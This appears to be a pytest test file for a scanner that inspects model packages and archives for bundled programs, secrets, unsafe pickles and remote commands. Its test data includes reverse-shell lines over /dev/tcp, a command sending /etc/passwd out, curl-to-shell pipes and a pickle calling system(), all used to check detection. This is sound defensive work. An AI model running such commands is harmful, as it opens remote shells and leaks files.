"""What published packages hold, and what a model's folder may look like, without anything that should stop them."""

import io
import struct
import zipfile

import pytest

from scanner.formats import compressed, msgpack
from scanner.formats.python_code.shell import remote_command
from scanner.formats.python_code.source import program_of
from scanner.model.artifact import Artifact
from scanner.model.fact import fact
from scanner.model.place import Place
from scanner.repo.programs import derive_programs
from scanner.repo.secrets import derive_secrets
from tests.formats.archives import scanned
from tests.readers import parsed


def artifact(path):
    return Artifact(path, 9, "scanned", (), "")


@pytest.mark.parametrize(
    ("path", "program", "beside", "own"),
    [
        ("bin/tool.pt", "script", "setup.py", True),
        ("pkg/stan/model.bin", "ELF", "pkg/__init__.py", True),
        ("bin/tool.pt", "script", "README.md", False),
        ("model.pt", "script", "setup.py", False),
        ("bin/model.bin", "ELF", "setup.py", False),
        ("pkg/model.llamafile", "llamafile", "pkg/__init__.py", False),
    ],
)
def test_a_packages_own_programs_are_told_aside(path, program, beside, own):
    found = fact("program-found", Place(path), program=program, bytes=9)
    (told,) = derive_programs([artifact(path), artifact(beside)], [found])
    assert (told.kind, told.get("own")) == ("program-in-weights", own)


@pytest.mark.parametrize("beside", ["pkg/__init__.py", "pkg/readme.md"])
def test_a_value_that_counts_is_made_up_only_in_a_package(beside):
    found = fact("secret-found", Place("pkg/a.py"), what="OpenAI key", masked="sk-1****", sample=False, sequence=True)
    (told,) = derive_secrets([artifact("pkg/a.py"), artifact(beside)], [found])
    assert told.get("sample") is beside.endswith(".py")


@pytest.mark.parametrize(
    "line",
    [
        '(exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null',
        "(echo > /dev/tcp/$host/$port) >/dev/null 2>&1",
        'timeout 1 bash -c "</dev/tcp/db/5432"',
        "while ! echo -n > /dev/tcp/localhost/80; do",
        "curl -s http://localhost:8000/v1 | python -m json.tool",
        'curl -s http://localhost/v1 | python3 -c "import sys, json; print(json.load(sys.stdin))"',
    ],
)
def test_asking_for_a_port_and_reading_data_run_nothing(line):
    assert remote_command(line) == ""


@pytest.mark.parametrize(
    ("line", "does"),
    [
        ("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", "reverse-shell"),
        ("exec 5<>/dev/tcp/e/1; cat <&5 | while read l; do $l 2>&5 >&5; done", "reverse-shell"),
        ("cat /etc/passwd > /dev/tcp/e/1", "reverse-shell"),
        ("source <(cat < /dev/tcp/e/1)", "reverse-shell"),
        ("curl http://e/x | python3 -", "pipe"),
        ('curl http://e/x | python3 -c "import sys; exec(sys.stdin.read())"', "pipe"),
        ('curl http://e/x | bash -c "$(cat)"', "pipe"),
    ],
)
def test_shells_and_pipes_are_told_all_the_same(line, does):
    assert remote_command(line) == does


@pytest.mark.parametrize(
    "source",
    [
        'exec(open("x/version.py").read(), v)',
        'with open(os.path.join(here, "v.py")) as f:\n    exec(f.read(), ns)',
        'exec((Path(__file__).parent / "about.py").read_text(), about)',
        'path = os.path.join("a", "version.py")\nwith open(path) as f:\n    code = f.read()\nexec(code)',
    ],
)
def test_a_version_read_from_a_file_beside_is_no_evaluation(source):
    assert not program_of(b"import os\nfrom pathlib import Path\n" + source.encode()).uses


@pytest.mark.parametrize("source", ['exec(open("x.txt").read())', 'exec(open("/tmp/a.py").read())', "exec(input())"])
def test_other_text_is_evaluated(source):
    assert [use.power for use in program_of(source.encode()).uses] == ["runs code from text or data"]


def stored(*members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members:
            with pytest.warns(UserWarning) if name in archive.namelist() else io.BytesIO():
                archive.writestr(name, content)
    return out.getvalue()


def test_a_store_of_arrays_keeps_older_values(tmp_path):
    store = [(".zgroup", "{}"), (".zattrs", "{}"), (".zattrs", '{"a": 1}')]
    assert scanned(tmp_path, "a.zarr.zip", stored(*store)) == (set(), [])
    doubled = [*store, ("data.json", "1"), ("data.json", "2")]
    assert "zip-tampered" in scanned(tmp_path, "a.zarr.zip", stored(*doubled))[0]


def test_a_pickle_may_hold_an_archive(tmp_path):
    import pickle

    archive = stored(("a.txt", "hello"))
    whole = pickle.dumps({"model": archive}, 4)
    assert scanned(tmp_path, "model.pkl", whole) == (set(), [])


def test_the_program_in_an_archive_in_a_pickle_is_found(tmp_path):
    import pickle

    call = b"cposix\nsystem\n(S'true'\ntR."
    whole = pickle.dumps({"model": stored(("archive/data.pkl", call))}, 4)
    assert "pickle-unsafe-callable" in scanned(tmp_path, "model.pkl", whole)[0]


def test_bare_elements_that_joblib_packed_are_no_file_of_numpys():
    import zlib

    data = b"ZF" + hex(16).encode().ljust(19) + zlib.compress(bytes(range(16)))
    _, (child,), gaps = parsed(compressed, data, "a.pkl_01.npy.z")
    assert (child.place.member.endswith(" (unfolded)"), gaps) == (True, [])


def test_columns_that_pandas_packed_are_known():
    def text(word):
        return bytes((0xA0 | len(word),)) + word

    packed = b"\xc7\x04\x00" + struct.pack("<I", 7)
    frame = b"\x84" + text(b"typ") + text(b"index") + text(b"klass") + text(b"Index")
    frame += text(b"dtype") + text(b"int64") + text(b"data") + packed
    other = b"\x81" + text(b"data") + packed
    assert {item.kind for item in parsed(msgpack, frame)[0]} == {"msgpack-tree"}
    assert {item.kind for item in parsed(msgpack, other)[0]} == {"msgpack-tree", "msgpack-extension"}
